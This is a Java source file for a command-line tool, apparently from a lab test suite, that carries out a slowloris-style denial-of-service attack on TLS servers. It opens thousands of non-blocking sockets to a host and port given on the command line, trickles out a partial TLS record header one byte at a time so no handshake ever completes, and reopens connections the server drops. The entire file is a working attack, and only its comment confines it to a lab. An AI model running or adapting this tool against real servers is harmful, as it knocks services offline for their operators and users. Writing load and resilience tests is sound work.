package haven.lab;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;

/**
 * A slow-connection attacker for lab tests (slowloris against TLS): keeps up to COUNT connections to
 * HOST:PORT, each sending a TLS record header and then one more byte every INTERVAL seconds, never a whole
 * ClientHello; a connection the server closes is opened again after INTERVAL. Runs for SECONDS, then closes
 * everything, prints one summary line ({@code opened N, closed by the server M, open at most K}) and exits.
 * Run it inside the attacking host's namespace: {@code java haven.lab.SlowClients 10.0.0.1 7443 5000 40 10}.
 * One thread and one selector, so thousands of sockets cost the attacker little.
 */
public final class SlowClients {
    private static final byte[] RECORD_START = {0x16, 0x03, 0x01, 0x02, 0x00};

    public static void main(String[] args) throws Exception {
        if (args.length != 5) {
            System.err.println("usage: SlowClients HOST PORT COUNT SECONDS INTERVAL_SECONDS");
            System.exit(2);
        }
        InetSocketAddress target = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
        int count = Integer.parseInt(args[2]);
        long endNanos = System.nanoTime() + Long.parseLong(args[3]) * 1_000_000_000L;
        long intervalNanos = Long.parseLong(args[4]) * 1_000_000_000L;
        SocketChannel[] channels = new SocketChannel[count];
        long[] due = new long[count]; // when a slot next sends a byte, or may reconnect
        long opened = 0;
        long closedByServer = 0;
        long failed = 0;
        int mostOpen = 0;
        ByteBuffer one = ByteBuffer.allocate(1);
        ByteBuffer sink = ByteBuffer.allocate(4096);
        try (Selector selector = Selector.open()) {
            while (System.nanoTime() < endNanos) {
                long now = System.nanoTime();
                for (int i = 0; i < count; i++) {
                    if (channels[i] == null && now >= due[i]) {
                        try {
                            SocketChannel c = SocketChannel.open();
                            c.configureBlocking(false);
                            c.connect(target);
                            c.register(selector, SelectionKey.OP_CONNECT, i);
                            channels[i] = c;
                            opened++;
                        } catch (IOException e) {
                            failed++;
                            due[i] = now + intervalNanos;
                        }
                    } else if (channels[i] != null && channels[i].isConnected() && now >= due[i]) {
                        try {
                            channels[i].write(one.clear().put((byte) 0x01).flip());
                            due[i] = now + intervalNanos;
                        } catch (IOException e) {
                            closedByServer++;
                            drop(channels, due, i, now + intervalNanos);
                        }
                    }
                }
                selector.select(200);
                for (SelectionKey k : selector.selectedKeys()) {
                    int i = (Integer) k.attachment();
                    SocketChannel c = (SocketChannel) k.channel();
                    try {
                        if (k.isConnectable() && c.finishConnect()) {
                            c.write(ByteBuffer.wrap(RECORD_START));
                            due[i] = System.nanoTime() + intervalNanos;
                            k.interestOps(SelectionKey.OP_READ);
                        } else if (k.isReadable() && c.read(sink.clear()) < 0) {
                            closedByServer++;
                            drop(channels, due, i, System.nanoTime() + intervalNanos);
                        }
                    } catch (IOException e) {
                        closedByServer++;
                        drop(channels, due, i, System.nanoTime() + intervalNanos);
                    }
                }
                selector.selectedKeys().clear();
                int open = 0;
                for (SocketChannel c : channels) if (c != null && c.isConnected()) open++;
                mostOpen = Math.max(mostOpen, open);
            }
        } finally {
            List<SocketChannel> left = new ArrayList<>();
            for (SocketChannel c : channels) if (c != null) left.add(c);
            for (SocketChannel c : left) {
                try {
                    c.close();
                } catch (IOException ignored) {
                    // leaving anyway
                }
            }
        }
        System.out.println("opened " + opened + ", closed by the server " + closedByServer + ", open at most " + mostOpen
                + ", failed to open " + failed);
    }

    private static void drop(SocketChannel[] channels, long[] due, int i, long reconnectAt) {
        try {
            channels[i].close();
        } catch (IOException ignored) {
            // it is gone either way
        }
        channels[i] = null;
        due[i] = reconnectAt;
    }
}
